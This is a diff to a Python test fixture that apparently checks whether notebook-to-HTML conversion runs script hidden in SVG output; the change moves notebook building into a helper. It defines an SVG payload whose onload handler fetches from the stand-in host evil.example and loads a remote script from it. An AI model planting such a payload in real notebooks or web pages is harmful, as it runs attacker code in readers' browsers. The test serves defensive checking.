@@ -3,21 +3,18 @@
 # control: own
 # expect: graded 0
 
-import json
-
-from target import cells_of, notebook, obeyed
+from target import displaying, obeyed
 
 MARK = "evil.example"
 PAYLOAD = '<svg xmlns=\'http://www.w3.org/2000/svg\' onload="fetch(\'//evil.example\')"><script href=\'//evil.example/a.js\'/></svg>'
 
 
 def make(folder, name, honest):
-    found = notebook(cells_of({}, {"": f"from IPython.display import display\ndisplay({{'image/svg+xml': {PAYLOAD!r}}}, raw=True)"}))
-    (folder / f"{name}.ipynb").write_text(json.dumps(found))
+    (folder / f"{name}.ipynb").write_text(displaying("image/svg+xml", PAYLOAD))
 
 
 def control(folder):
-    """Put into a page as it is: nbconvert itself shows drawings as pictures, which run nothing."""
+    # As it is: nbconvert shows drawings as pictures, which run nothing.
     return browsed(f"<html><body>{PAYLOAD}</body></html>")
 
 
